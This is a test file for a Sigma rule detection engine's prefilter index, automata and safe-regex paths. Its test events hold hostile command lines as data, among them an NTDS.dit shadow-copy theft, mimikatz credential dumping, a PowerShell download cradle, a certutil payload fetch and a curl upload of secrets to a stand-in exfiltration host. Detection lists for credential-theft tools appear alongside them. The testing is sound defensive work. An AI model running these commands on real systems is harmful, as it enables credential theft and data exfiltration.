/**
 * The Sigma rule index (detect/sigma/prefilter.ts, automaton.ts): rules looked up by channel and
 * EventID, then by literal values they cannot match without. It must only ever skip rules that
 * could not match: each case compares what the engine (with the index) fires to each rule
 * evaluated on its own over the same events, and checks the index really narrowed the rules run.
 * The faster paths behind it (one keyword haystack per event with a native substring gate,
 * bounded regexes on the backtracking engine) must decide exactly what the slow ones did.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parse } from 'yaml';
import type { LogEvent } from '../../alert-service/src/generated/schema-types.js';
import { compileSigmaDocuments } from '../../alert-service/src/detect/sigma/load.js';
import { AffixTrie, AhoCorasick } from '../../alert-service/src/detect/sigma/automaton.js';
import { literalCover, literalGate } from '../../alert-service/src/detect/sigma/literal-gate.js';
import { keywordHaystack } from '../../alert-service/src/detect/sigma/fields.js';
import { requiredLiteral } from '../../alert-service/src/detect/sigma/detection.js';
import { backtrackWork, compileSafeRegex, MAX_BACKTRACK_WORK } from '../../alert-service/src/detect/safe-regex.js';
import { PrefilterIndex } from '../../alert-service/src/detect/sigma/prefilter.js';
import { hashPieces, isHashPiece } from '../../alert-service/src/detect/sigma/hash-pieces.js';
import { DetectionEngine, DEFAULT_LIMITS } from '../../alert-service/src/detect/engine.js';
import type { CompiledRule } from '../../alert-service/src/detect/compiled.js';
import { CollectSink, ManualClock, T0, win } from './helpers.js';

const SYSMON = 'Microsoft-Windows-Sysmon/Operational';

function rules(yamls: string[]): CompiledRule[] {
  const docs = yamls.map((y, i) => ({ file: `r${i}.yml`, doc: parse(y) as Record<string, unknown> }));
  const { rules: out, skipped } = compileSigmaDocuments(docs, { defaultQuietSec: 900 });
  assert.deepEqual(skipped, []);
  return out;
}

function fired(rs: CompiledRule[], events: LogEvent[]): string[][] {
  return events.map((e) => {
    const sink = new CollectSink();
    new DetectionEngine(rs, sink, new ManualClock(Date.UTC(2030, 0, 1)), DEFAULT_LIMITS).process([e]);
    return sink.signals.map((s) => s.rule_id).sort();
  });
}

/** Each rule on its own, no index: its scope (kinds, channels, EventIDs) and detection. */
function expected(rs: CompiledRule[], events: LogEvent[]): string[][] {
  return events.map((e) =>
    rs.filter((r) => (!r.kinds || r.kinds.has(e.source.kind)) && (!r.channels || (e.source.channel !== undefined && r.channels.has(e.source.channel.toLowerCase()))) && (!r.eventIds || (e.fields.event_id !== undefined && r.eventIds.has(e.fields.event_id))) && r.evaluate(e) !== null).map((r) => r.id).sort(),
  );
}

/** How many rules the index hands the engine for an event. */
function candidates(rs: CompiledRule[], e: LogEvent): number {
  return new PrefilterIndex(rs.filter((r) => r.prefilter)).candidates(e, e.source.channel?.toLowerCase()).length;
}

const sysmon1 = (data: Record<string, string>, t = 0) => win(T0 + t, 1, SYSMON, { Image: 'C:\\Windows\\System32\\svchost.exe', CommandLine: 'svchost.exe -k netsvcs', ...data });

const rule = (id: string, logsource: string, detection: string) => `title: ${id}\nid: ${id}\nlogsource: ${logsource}\ndetection:\n${detection}\nlevel: high`;

test('a rule indexed under its channel and EventID fires on them, and only there', () => {
  const rs = rules([
    rule('by-id', '{product: windows, service: security}', '  sel:\n    EventID: 4720\n    TargetUserName|endswith: "$"\n  condition: sel'),
    rule('proc', '{product: windows, category: process_creation}', '  sel:\n    Image|endswith: "\\\\whoami.exe"\n  condition: sel'),
  ]);
  const byId = rs.find((r) => r.id === 'by-id')!;
  assert.deepEqual(byId.prefilter!.targets.map((t) => [t.channels, t.eventIds]), [[['security'], [4720]]]);
  const events = [
    win(T0, 4720, 'Security', { TargetUserName: 'evil$' }),
    win(T0, 4722, 'Security', { TargetUserName: 'evil$' }), // another EventID
    win(T0, 4720, 'System', { TargetUserName: 'evil$' }), // another channel
    sysmon1({ Image: 'C:\\Windows\\System32\\whoami.exe', CommandLine: 'whoami /all' }),
    win(T0, 4688, 'Security', { NewProcessName: 'C:\\Windows\\System32\\whoami.exe', CommandLine: 'whoami' }), // 4688: Image renamed
    win(T0, 3, SYSMON, { Image: 'C:\\Windows\\System32\\whoami.exe' }), // Sysmon 3 is network_connection
  ];
  assert.deepEqual(fired(rs, events), [['by-id'], [], [], ['proc'], ['proc'], []]);
  assert.deepEqual(fired(rs, events), expected(rs, events));
});

test('a rule with no EventID constraint is tested against every event of its channel', () => {
  const rs = rules([
    rule('channel-wide', '{product: windows, service: security}', '  sel:\n    SubjectUserName: mallory\n  condition: sel'),
    rule('other', '{product: windows, service: security}', '  sel:\n    EventID: 4624\n    LogonType: 9\n  condition: sel'),
  ]);
  assert.equal(rs.find((r) => r.id === 'channel-wide')!.prefilter!.targets[0]!.eventIds, undefined);
  // 4624 has a bucket (the other rule's), 4719 has none: the channel-wide rule is in both.
  const events = [4624, 4719, 1102].map((id) => win(T0, id, 'Security', { SubjectUserName: 'mallory' }));
  events.push(win(T0, 4719, 'Application', { SubjectUserName: 'mallory' }));
  assert.deepEqual(fired(rs, events), [['channel-wide'], ['channel-wide'], ['channel-wide'], []]);
  assert.deepEqual(fired(rs, events), expected(rs, events));
});

test('value atoms narrow the rules run without hiding a match: lists, escapes, keywords, |all, windash, base64offset, regex, homoglyphs', () => {
  const tools = Array.from({ length: 120 }, (_, i) => `'Invoke-Tool${i}x'`).join(', '); // longer than any fixed atom cap
  const rs = rules([
    rule('long-list', '{product: windows, category: process_creation}', `  sel:\n    CommandLine|contains: [${tools}]\n  condition: sel`),
    rule('escaped', '{product: windows, category: process_creation}', "  sel:\n    CommandLine|contains: '\\\\\\\\?\\\\GLOBALROOT\\\\Device\\\\HarddiskVolumeShadowCopy'\n  condition: sel"),
    rule('keyword', '{product: windows, category: process_creation}', "  keywords:\n    - '\\\\perfc.dat'\n  condition: keywords"),
    rule('all', '{product: windows, category: process_creation}', "  sel:\n    CommandLine|contains|all: ['cl', '/Trace']\n  condition: sel"),
    rule('windash', '{product: windows, category: process_creation}', "  sel:\n    CommandLine|windash|contains: ' -encodedcommand '\n  condition: sel"),
    rule('b64', '{product: windows, category: process_creation}', "  sel:\n    CommandLine|base64offset|contains: 'IEX ('\n  condition: sel"),
    rule('regex', '{product: windows, category: process_creation}', "  sel:\n    CommandLine|re: '(?i)frombase64string\\(.*\\)'\n  condition: sel"),
    rule('homoglyph', '{product: windows, category: process_creation}', "  sel:\n    CommandLine|contains: ['\u0430', '\u0435', '\u043e']\n  condition: sel"),
    rule('negated', '{product: windows, category: process_creation}', "  filter:\n    Image|endswith: '.exe'\n  condition: not filter"),
  ]);
  const b64 = Buffer.from('$x = 1; IEX (New-Object Net.WebClient)').toString('base64');
  const cmds = [
    'powershell -c Invoke-Tool77x -Target dc01',
    'cmd /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\NTDS\\NTDS.dit C:\\temp',
    'rundll32.exe C:\\Windows\\perfc.dat,#1',
    'wevtutil cl /Trace:x',
    'powershell /EncodedCommand SQBFAFgA',
    'powershell \u2013encodedcommand SQBFAFgA',
    `powershell -enc ${b64}`,
    'powershell [Convert]::FromBase64String("aGk=")',
    'ping ex\u0430mple.com',
    'svchost.exe -k netsvcs -p -s Schedule', // benign: matches none
    'powershell -c Invoke-Tool77 -Target dc01', // near miss of the list
  ];
  const events = cmds.map((c, i) => sysmon1({ CommandLine: c }, i));
  events.push(sysmon1({ Image: 'C:\\tmp\\payload.scr', CommandLine: 'payload' }, 99));
  const want = expected(rs, events);
  assert.deepEqual(fired(rs, events), want);
  assert.deepEqual(want, [['long-list'], ['escaped'], ['keyword'], ['all'], ['windash'], ['windash'], ['b64'], ['regex'], ['homoglyph'], [], [], ['negated']]);
  // The benign event wakes nothing: the pure negation has no necessary literal, but its filter
  // (an image ending in .exe) holds, which rules it out; on the .scr image it is run.
  assert.equal(candidates(rs, events[9]!), 0);
  assert.equal(candidates(rs, events[events.length - 1]!), 1);
  assert.ok(rs.filter((r) => r.id !== 'negated').every((r) => r.prefilter!.targets.every((t) => t.atoms !== null)));
});

test('two necessary literals, wildcard anchors and vetoes narrow further and still hide no match', () => {
  const rs = rules([
    // Two conjuncts with literals: woken only when ParentImage is winword *and* the command line has the literal.
    rule('two-sets', '{product: windows, category: process_creation}', "  parent:\n    ParentImage|endswith: '\\winword.exe'\n  cli:\n    CommandLine|contains: 'http'\n  condition: parent and cli"),
    // One selection with two items (and |all): each item is a necessary set.
    rule('two-items', '{product: windows, category: process_creation}', "  sel:\n    Image|endswith: '\\certutil.exe'\n    CommandLine|contains|all: ['-urlcache', '-f ']\n  condition: sel"),
    // Wildcard values compared whole: prefix 7z of 7z*.exe, suffix rar.exe of *rar.exe.
    rule('anchored', '{product: windows, category: process_creation}', "  sel:\n    OriginalFileName: ['7z*.exe', '*rar.exe']\n  condition: sel"),
    // Negations only: vetoed by plain filters, one of them a list of maps, another ignored (a wildcard).
    rule('veto', '{product: windows, category: process_creation}', "  known:\n    Image|endswith: ['.exe', '.com']\n  filter_a:\n    - ParentImage|contains: ':\\Windows\\Temp\\'\n    - Image|contains: ':\\Windows\\Temp\\'\n  filter_b:\n    Image|contains: 'Nv*Backend'\n  condition: not known and not 1 of filter_*"),
    // A filter with two items proves nothing alone: no veto from it.
    rule('no-veto', '{product: windows, category: process_creation}', "  filter:\n    Image|endswith: '.dat'\n    User: SYSTEM\n  condition: not filter"),
    // A short regex literal ('-f') is a weak atom, not a reason to run the rule on every event.
    rule('weak', '{product: windows, category: process_creation}', "  sel:\n    CommandLine|re: '\"(?:\\{\\d\\})+\"\\s*-f'\n  condition: sel"),
  ]);
  const two = rs.find((r) => r.id === 'two-sets')!.prefilter!.targets[0]!;
  assert.ok(two.atoms && two.also, 'keyed on both conjuncts');
  assert.ok(rs.find((r) => r.id === 'veto')!.prefilter!.targets.every((t) => t.atoms === null && t.veto && t.veto.length === 4));
  assert.ok(rs.find((r) => r.id === 'no-veto')!.prefilter!.targets.every((t) => t.atoms === null && !t.veto));
  assert.ok(rs.find((r) => r.id === 'weak')!.prefilter!.targets.every((t) => t.atoms !== null));
  const ev = (data: Record<string, string>, t: number) => sysmon1(data, t);
  const events = [
    ev({ ParentImage: 'C:\\Program Files\\Office\\WINWORD.EXE', CommandLine: 'powershell iwr HTTP://x.example/a' }, 1),
    ev({ ParentImage: 'C:\\Program Files\\Office\\WINWORD.EXE', CommandLine: 'powershell -nop' }, 2), // parent only
    ev({ ParentImage: 'C:\\Windows\\explorer.exe', CommandLine: 'curl http://x.example/a' }, 3), // literal only
    ev({ Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -urlcache -f http://x/a.exe a.exe' }, 4),
    ev({ Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -urlcache -split' }, 5), // one of |all
    ev({ OriginalFileName: '7zG.exe' }, 6),
    ev({ OriginalFileName: 'WinRAR.exe' }, 7),
    ev({ OriginalFileName: 'x7z.exe' }, 8), // 7z not at the start
    ev({ Image: 'C:\\Windows\\Temp\\payload.bin', ParentImage: 'C:\\Windows\\explorer.exe' }, 9), // filter_a
    ev({ Image: 'C:\\Users\\a\\NvidiaBackend\\x.bin', ParentImage: 'C:\\Windows\\explorer.exe' }, 10), // filter_b only: still runs, matches nothing
    ev({ Image: 'C:\\Users\\a\\x.bin', ParentImage: 'C:\\Windows\\explorer.exe' }, 11),
    ev({ Image: 'C:\\Users\\a\\x.dat', User: 'alice' }, 12),
    ev({ CommandLine: 'powershell "{0}{1}" -f \'a\',\'b\'' }, 13),
  ];
  const want = expected(rs, events);
  assert.deepEqual(fired(rs, events), want);
  // 'no-veto' is a pure negation whose filter needs two fields: it fires on all but such an event.
  assert.deepEqual(want, [['no-veto', 'two-sets'], ['no-veto'], ['no-veto'], ['no-veto', 'two-items'], ['no-veto'], ['anchored', 'no-veto'], ['anchored', 'no-veto'], ['no-veto'], ['no-veto'], ['no-veto'], ['no-veto', 'veto'], ['no-veto', 'veto'], ['no-veto', 'weak']]);
  // Half a pair wakes nothing (1, 2), a wildcard's anchor is not found elsewhere (7), a plain
  // filter vetoes the pure negation (8); 'no-veto' is run on every event.
  assert.deepEqual([1, 2, 7, 8].map((i) => candidates(rs, events[i]!)), [1, 1, 1, 1]);
  assert.deepEqual([9, 10].map((i) => candidates(rs, events[i]!)), [2, 2]);
});

/** A seeded PRNG: the same strings on every run. */
function prng(seed: number): () => number {
  return () => {
    seed = (seed * 1103515245 + 12345) & 0x7fffffff;
    return seed / 0x80000000;
  };
}

test('Aho-Corasick and the affix tries find exactly what a naive search finds (ASCII and non-ASCII)', () => {
  const rand = prng(7);
  const alphabet = ['a', 'b', 'c', '\\', '.', '\u0430', '\u00e9', 'x'];
  const word = (max: number) => Array.from({ length: 1 + Math.floor(rand() * max) }, () => alphabet[Math.floor(rand() * alphabet.length)]).join('');
  for (let round = 0; round < 40; round++) {
    const patterns = [...new Set(Array.from({ length: 1 + Math.floor(rand() * 30) }, () => word(5)))];
    const ac = new AhoCorasick<string>();
    for (const p of patterns) ac.add(p, p);
    ac.build();
    const suffix = new AffixTrie(patterns.map((p) => [p, p] as const), 'suffix');
    const prefix = new AffixTrie(patterns.map((p) => [p, p] as const), 'prefix');
    const cover = literalCover(patterns);
    const gate = literalGate(patterns);
    if (cover) for (const p of patterns) assert.ok(cover.some((c) => p.includes(c)), `cover ${JSON.stringify(cover)} misses ${p}`);
    for (let k = 0; k < 30; k++) {
      const text = word(40);
      const found = new Set<string>();
      ac.search(text, (p) => found.add(p));
      assert.deepEqual([...found].sort(), patterns.filter((p) => text.includes(p)).sort(), `contains in ${JSON.stringify(text)}`);
      assert.equal(ac.containsAny(text), found.size > 0);
      // The keyword gate: false only when no pattern is in the text.
      if (gate && !gate(text)) assert.equal(found.size, 0, `gate of ${JSON.stringify(cover)} missed a pattern in ${JSON.stringify(text)}`);
      const ends: string[] = [];
      suffix.walk(text, (p) => ends.push(p));
      assert.deepEqual(ends.sort(), patterns.filter((p) => text.endsWith(p)).sort(), `suffix of ${JSON.stringify(text)}`);
      const starts: string[] = [];
      prefix.walk(text, (p) => starts.push(p));
      assert.deepEqual(starts.sort(), patterns.filter((p) => text.startsWith(p)).sort(), `prefix of ${JSON.stringify(text)}`);
      assert.equal(prefix.matchesAny(text), starts.length > 0);
    }
  }
});

const proc = (data: Record<string, string>, message = '') => ({
  ...win(T0, 1, SYSMON, { UtcTime: '2026-11-21 10:00:00.000', ProcessGuid: '{9b2c1f3e-1a2b-6553-0b00-000000000a00}', Image: 'C:\\Windows\\System32\\svchost.exe', CommandLine: 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule', Hashes: 'SHA1=2A4B6C8D0E1F2A4B6C8D0E1F2A4B6C8D0E1F2A4B,MD5=0123456789ABCDEF0123456789ABCDEF', ParentImage: 'C:\\Windows\\System32\\services.exe', ...data }),
  message,
});

test('keyword rules: found in the message or any EventData value, in any case, on channel-wide and channel-less rules; never across two values', () => {
  const rs = rules([
    // SigmaHQ's mimikatz keywords: every Windows channel (no service), through the haystack and its gate.
    rule('mimikatz', '{product: windows}', '  keywords:\n    - "sekurlsa::"\n    - "gentilkiwi.com"\n    - "\\\\mimilib.dll"\n    - "Kiwi Legit Printer"\n  filter:\n    EventID: 15\n  condition: keywords and not filter'),
    // A keyword rule on one channel: indexed, woken by the bucket's keyword automaton.
    rule('sysmon-kw', '{product: windows, service: sysmon}', '  keywords:\n    - "Sysmon config state changed"\n  condition: keywords'),
    // A keyword holding a newline: the joined text must not join two values into a match.
    rule('two-lines', '{product: windows, service: sysmon}', '  keywords:\n    - "alpha\\nbeta"\n  condition: keywords'),
  ]);
  const events = [
    proc({ CommandLine: 'mimikatz.exe "privilege::debug" "SEKURLSA::logonpasswords" exit' }), // upper case in a value
    proc({}, 'Process Create: loaded C:\\Temp\\MIMILIB.DLL'), // in the message
    proc({ Description: 'Kiwi Legit Printer driver' }), // a value other than the ones rules name
    proc({ CommandLine: 'net use \\\\gentilkiwi.co m' }), // split: no match
    { ...win(T0, 15, SYSMON, { TargetFilename: 'C:\\Users\\bob\\Downloads\\sekurlsa::.txt' }) }, // filtered EventID
    win(T0, 4688, 'Security', { NewProcessName: 'C:\\Temp\\x.exe', CommandLine: 'x.exe sekurlsa::pth' }), // another channel
    win(T0, 7045, 'System', { ServiceName: 'mimidrv', ImagePath: 'MimiLib.dll' }), // no backslash before it: not the keyword
    win(T0, 16, SYSMON, { Configuration: 'C:\\sysmon.xml' }, {}), // keyword absent
    { ...win(T0, 16, SYSMON, { Configuration: 'C:\\sysmon.xml' }), message: 'SYSMON CONFIG STATE CHANGED' },
    proc({ CommandLine: 'echo alpha', Description: 'beta' }), // "alpha" ends one value, "beta" starts the next
    proc({ CommandLine: 'echo alpha\nbeta' }), // the newline inside one value
  ];
  const want = [['mimikatz'], ['mimikatz'], ['mimikatz'], [], [], ['mimikatz'], [], [], ['sysmon-kw'], [], ['two-lines']];
  assert.deepEqual(fired(rs, events), want);
  assert.deepEqual(fired(rs, events), expected(rs, events));
});

test('the keyword haystack is the message and every EventData string, lower-cased, one per event', () => {
  const e = { ...win(T0, 1, SYSMON, { Image: 'C:\\X.EXE', ProcessId: 42, Empty: '' }), message: 'Process Create' };
  assert.equal(keywordHaystack(e), 'process create\nc:\\x.exe');
  assert.equal(keywordHaystack(e), keywordHaystack(e));
  const other = { ...e, message: 'ΣΟΦΟΣ' }; // final sigma: lower-cased as if alone
  assert.equal(keywordHaystack(other), 'σοφος\nc:\\x.exe');
});

test('a literal cover holds a part of every literal; the gate is false only when no literal is in the text', () => {
  const mimikatz = ['dpapi::masterkey', 'eo.oe.kiwi', 'event::clear', 'gentilkiwi.com', 'kerberos::golden', 'kiwi legit printer', 'lsadump::', 'mimidrv.sys', '\\mimilib.dll', 'sekurlsa::'];
  const cover = literalCover(mimikatz)!;
  assert.ok(cover.length <= 4, JSON.stringify(cover));
  for (const l of mimikatz) assert.ok(cover.some((c) => l.includes(c)), l);
  const gate = literalGate(mimikatz)!;
  assert.equal(gate('c:\\windows\\system32\\svchost.exe -k netsvcs'), false);
  assert.equal(gate('mimikatz # sekurlsa::logonpasswords'), true);
  assert.equal(literalCover(['a', 'bc']), null); // a one-character literal: no gate
  assert.equal(literalCover(Array.from({ length: 30 }, (_, i) => `${String.fromCharCode(97 + (i % 26))}${i}x${i}`)), null); // no small cover
});

test('regexes without an unbounded quantifier run on the backtracking engine with the same verdicts; the others stay linear', () => {
  for (const [source, work] of [['\\s-[FTd]\\s', 4], ['\\n\\n\\n', 3], ['(foo|bar)baz', 12], ['(a|b){4}', 64]] as const) {
    assert.equal(backtrackWork(source), work, source);
    assert.equal(compileSafeRegex(source).flags.includes('l'), false, source);
  }
  for (const source of ['a.*b', '\\d+x', '(\\s*\\d{1,3}\\s*,){2}', 'x{2,}', '[a-z]{1,4}[0-9]+']) {
    assert.ok(backtrackWork(source) > MAX_BACKTRACK_WORK, source);
    assert.ok(compileSafeRegex(source).flags.includes('l'), source);
  }
  // The same answers as the linear engine, case-sensitive and with |re|i (lower-cased input).
  const texts = ['curl -F "a=@x" http://e', 'curl -f http://e', 'CURL -T x', 'a\n\n\nb', 'FOOBAZ', 'foobaz', 'abab', 'ab\tab'];
  for (const [source, flags] of [['\\s-[FTd]\\s', ''], ['\\n\\n\\n', ''], ['(foo|bar)baz', 'i'], ['(a|b){4}', ''], ['[ab]\\t[ab]', 'i']] as const) {
    const fast = compileSafeRegex(source, flags);
    const linear = new RegExp(source, 'l'); // the patterns' literals are lower-case already
    for (const t of texts) assert.equal(fast.test(t), linear.test(flags.includes('i') ? t.toLowerCase() : t), `/${source}/${flags} on ${JSON.stringify(t)}`);
  }
  // Pathological input for an accepted pattern stays fast: bounded work per position.
  const t0 = process.hrtime.bigint();
  compileSafeRegex('(a|aa){4}b').test('a'.repeat(8192));
  assert.ok(Number(process.hrtime.bigint() - t0) < 2e9);
});

test('a regex rule keyed on control-character escapes and a one-character class still fires, and only where it should', () => {
  assert.equal(requiredLiteral('\\n\\n\\n', 1), '\n\n\n');
  assert.equal(requiredLiteral('\\x41b\\u0043', 1), 'AbC');
  const rs = rules([
    rule('lnk-hidden', '{product: windows, category: process_creation}', '  sel:\n    CommandLine|re: "\\\\n\\\\n\\\\n\\\\n"\n  condition: sel'),
    rule('curl-upload', '{product: windows, category: process_creation}', '  img:\n    Image|endswith: "\\\\curl.exe"\n  cli:\n    CommandLine|re: "\\\\s-[FTd]\\\\s"\n  condition: img and cli'),
  ]);
  const events = [
    proc({ CommandLine: 'cmd.exe /c "\n\n\n\nstart evil.exe"' }),
    proc({ CommandLine: 'cmd.exe /c "\n\nstart evil.exe"' }),
    proc({ Image: 'C:\\Windows\\System32\\curl.exe', CommandLine: 'curl -F "file=@C:\\secrets.zip" https://exfil.example' }),
    proc({ Image: 'C:\\Windows\\System32\\curl.exe', CommandLine: 'curl -f https://example.com' }), // -f is not -F: the regex is case-sensitive
    win(T0, 4688, 'Security', { NewProcessName: 'C:\\Windows\\System32\\curl.exe', CommandLine: 'curl -T report.pdf ftp://x' }),
  ];
  assert.deepEqual(fired(rs, events), [['lnk-hidden'], [], ['curl-upload'], [], ['curl-upload']]);
  assert.deepEqual(fired(rs, events), expected(rs, events));
});

test('the digits of a {m}, {m,} or {m,n} quantifier are not text a regex requires (SigmaHQ svchost -k\\s\\w{1,64}, metasploit ^[A-Za-z0-9]{16}$)', () => {
  assert.equal(requiredLiteral('-k\\s\\w{1,64}(?:\\s?(?:-p|-s))?', 1), '-k');
  assert.equal(requiredLiteral('^[A-Za-z0-9]{16}$', 1), null);
  assert.equal(requiredLiteral('a{1,3}bcd', 1), 'bcd');
  assert.equal(requiredLiteral('abc{2}de', 1), 'abc');
  assert.equal(requiredLiteral(`x{${'1'.repeat(30)}}yz`, 1), 'yz');
  assert.equal(requiredLiteral('a{b}cde', 1), 'cde'); // not a quantifier: no literal read from it, still sound
  const rs = rules([
    rule('svchost-flags', '{product: windows, category: process_creation}', '  sel:\n    Image|endswith: "\\\\svchost.exe"\n    CommandLine|re: "-k\\\\s\\\\w{1,8}"\n  condition: sel'),
    rule('short-name', '{product: windows, category: process_creation}', '  sel:\n    OriginalFileName|re: "^[A-Za-z0-9]{4}$"\n  condition: sel'),
  ]);
  const events = [
    proc({ CommandLine: 'svchost.exe -k netsvcs' }),
    proc({ CommandLine: 'svchost.exe -k' }),
    proc({ CommandLine: 'x', OriginalFileName: 'abcd' }),
    proc({ CommandLine: 'x', OriginalFileName: 'abcde' }),
  ];
  assert.deepEqual(fired(rs, events), [['svchost-flags'], [], ['short-name'], []]);
  assert.deepEqual(fired(rs, events), expected(rs, events));
});

test('hash pieces: a whole NAME=HEX literal is in a value exactly when a piece equals it; other values and literals fall back to the search', () => {
  const rand = prng(11);
  // Two hex digits only, so pieces share long prefixes and literals nearly match.
  const hex = (n: number) => Array.from({ length: n }, () => (rand() < 0.5 ? 'a' : 'b')).join('');
  const names: Array<[string, number]> = [['sha1', 40], ['md5', 32], ['sha256', 64], ['imphash', 32]];
  const piece = () => {
    const [name, n] = names[Math.floor(rand() * names.length)]!;
    return `${name}=${hex(n)}`;
  };
  // Hostile variants: a name ending in a known one, a wrong hex length, `=` or `,` inside, junk around.
  const hostile = (p: string) => {
    const k = Math.floor(rand() * 7);
    return k === 0 ? `x${p}` : k === 1 ? `${p}a` : k === 2 ? p.slice(0, -1) : k === 3 ? p.replace(/=(.)/, '=$1=') : k === 4 ? p.replace(/=(..)/, '=$1,') : k === 5 ? `hash=${p.split('=')[1]}` : `${p};`;
  };
  for (let round = 0; round < 60; round++) {
    const pool = Array.from({ length: 6 }, piece);
    const literals = [...new Set([...pool.slice(0, 4), pool[4]!.slice(0, 20), 'imphash=', hostile(pool[5]!)])];
    assert.ok(pool.slice(0, 4).every(isHashPiece));
    const whole = new Set(literals.filter(isHashPiece));
    const rest = literals.filter((l) => !whole.has(l));
    for (let k = 0; k < 30; k++) {
      const parts = Array.from({ length: 1 + Math.floor(rand() * 4) }, () => (rand() < 0.6 ? pool[Math.floor(rand() * pool.length)]! : piece()));
      if (rand() < 0.4) parts[Math.floor(rand() * parts.length)] = hostile(parts[0]!);
      const value = (rand() < 0.5 ? parts.join(',').toUpperCase() : parts.join(',')).toLowerCase();
      const naive = literals.filter((l) => value.includes(l)).sort();
      const pieces = hashPieces(value);
      if (!pieces) continue; // searched in full, as before
      const found = new Set([...pieces.filter((p) => whole.has(p)), ...rest.filter((l) => value.includes(l))]);
      assert.deepEqual([...found].sort(), naive, `pieces of ${JSON.stringify(value)}`);
    }
  }
  assert.deepEqual(hashPieces(`sha1=${'a'.repeat(40)},md5=${'b'.repeat(32)}`), [`sha1=${'a'.repeat(40)}`, `md5=${'b'.repeat(32)}`]);
  for (const bad of ['', `md5=${'b'.repeat(32)},`, `xmd5=${'b'.repeat(32)}`, `md5=${'b'.repeat(31)}`, `md5=${'b'.repeat(31)}=`, `md5=${'b'.repeat(33)}`, `hash=${'b'.repeat(32)}`]) assert.equal(hashPieces(bad), null, bad);
  assert.equal(isHashPiece(`MD5=${'B'.repeat(32)}`), false); // literals are looked up lower-cased
  assert.equal(isHashPiece(`md5=${'g'.repeat(32)}`), false);
});

test('hash rules through the index: upper-case Sysmon hashes, whole and partial literals, malformed values all fire as the rules say', () => {
  const h = (c: string, n: number) => c.repeat(n);
  const list = Array.from({ length: 10 }, (_, i) => `      - 'SHA256=${h(i.toString(16).toUpperCase(), 64)}'`).join('\n');
  const rs = rules([
    rule('hash-list', '{product: windows, category: process_creation}', `  selection:\n    Hashes|contains:\n${list}\n      - 'md5=${h('c', 32)}'\n      - 'IMPHASH=${h('d', 32)}'\n      - 'SHA1=${h('e', 40)}'\n      - 'IMPHASH=0000'\n      - 'Hash=${h('f', 8)}'\n      - 'sha1=${h('e', 20)}'\n  condition: selection`),
  ]);
  const hashes = (v: string) => sysmon1({ Hashes: v });
  const events = [
    hashes(`SHA1=${h('1', 40)},MD5=${h('2', 32)},SHA256=${h('3', 64)},IMPHASH=${h('4', 32)}`), // whole piece, upper case
    hashes(`SHA1=${h('9', 40)},MD5=${h('C', 32)}`), // md5 piece
    hashes(`MD5=${h('2', 32)},IMPHASH=${h('D', 32)}`), // imphash piece
    hashes(`SHA1=${h('E', 40)}`), // whole sha1 (and its partial literal)
    hashes(`SHA1=${h('E', 20)}${h('0', 20)}`), // only the partial sha1 literal
    hashes(`SHA1=${h('9', 40)},IMPHASH=0000${h('1', 28)}`), // only the partial imphash literal
    hashes(`SHA1=${h('9', 40)},MD5=${h('2', 32)}`), // nothing
    hashes(`XSHA256=${h('3', 64)}`), // malformed: searched in full, still a match
    hashes(`SHA256=${h('3', 64)}FF`), // malformed (too long): the literal is still in it
    hashes(`MD5=${h('C', 32)};SHA1=${h('9', 40)}`), // malformed separator
    hashes(`Hash=${h('F', 8)}`), // malformed name: the literal is in it
    sysmon1({}), // no Hashes field
  ];
  assert.deepEqual(fired(rs, events), expected(rs, events));
  assert.deepEqual(fired(rs, events).map((f) => f.length), [1, 1, 1, 1, 1, 1, 0, 1, 1, 1, 1, 0]);
});

test('a field with a few contains literals (looked for one by one) and one with many (automaton) wake the same rules, in any case', () => {
  const lits = ['Operating System', 'Sysinternals', 'NirSoft', '®', 'x64dbg', 'Process Hacker', 'AnyDesk', 'Mimi'];
  const many = [...lits, ...Array.from({ length: 12 }, (_, i) => `unused-${i}`)];
  const item = (vs: string[]) => vs.map((v) => `      - '${v}'`).join('\n');
  const rs = rules([
    rule('few', '{product: windows, category: process_creation}', `  selection:\n    Product|contains:\n${item(lits)}\n  condition: selection`),
    rule('many', '{product: windows, category: process_creation}', `  selection:\n    Description|contains:\n${item(many)}\n  condition: selection`),
    // Two necessary sets, both through the one-by-one path: woken only when both hit.
    rule('both', '{product: windows, category: process_creation}', `  selection:\n    Company|contains: 'Sysinternals'\n    FileVersion|contains:\n      - '1.2.3'\n      - '4.5'\n  condition: selection`),
  ]);
  const texts = ['Microsoft® Windows® Operating System', 'SYSINTERNALS Suite', 'nirsoft', 'Everyday Tool', 'PROCESS hacker 2', 'x64DBG', 'anydesk.exe', 'mimikatz', ''];
  const events = texts.flatMap((t) => [sysmon1({ Product: t, Description: t, Company: t, FileVersion: '1.2.3.4' }), sysmon1({ Product: t, Company: 'Sysinternals - www.sysinternals.com', FileVersion: '9.9' })]);
  const got = fired(rs, events);
  assert.deepEqual(got, expected(rs, events));
  assert.deepEqual(got.map((f) => f.join(',')), ['few,many', 'few', 'both,few,many', 'few', 'few,many', 'few', '', '', 'few,many', 'few', 'few,many', 'few', 'few,many', 'few', 'few,many', 'few', '', '']);
});

test('keyword literals searched text by text through the case-insensitive probe: any case, the Kelvin sign and İ, non-ASCII keywords', () => {
  const rs = rules([
    rule('kw-ascii', '{product: windows, category: process_creation}', "  keywords:\n    - '\\\\perfc.dat'\n    - 'kiwi'\n    - 'wi'\n  condition: keywords"),
    rule('kw-wide', '{product: windows, category: process_creation}', "  keywords:\n    - 'ex\u0430mple'\n  condition: keywords"),
  ]);
  const cmds = ['rundll32 C:\\Windows\\PERFC.DAT,#1', 'K\u0130W\u0130 tool', '\u212Aiwi', 'W\u0130', 'ping EX\u0410MPLE.com', 'nothing here', 'perfc.dat, no backslash'];
  const events = cmds.map((c, i) => sysmon1({ CommandLine: c, Image: 'C:\\x\\a.exe' }, i));
  assert.deepEqual(fired(rs, events), expected(rs, events));
  assert.deepEqual(expected(rs, events).map((x) => x.length > 0), [true, true, true, true, true, false, false]);
  // Upper-case text with 'İ' only lower-cases to 'wi' by way of U+0130: the probe must not skip it.
  assert.ok(candidates(rs, events[3]!) >= 1);
  assert.equal(candidates(rs, events[5]!), 0);
});
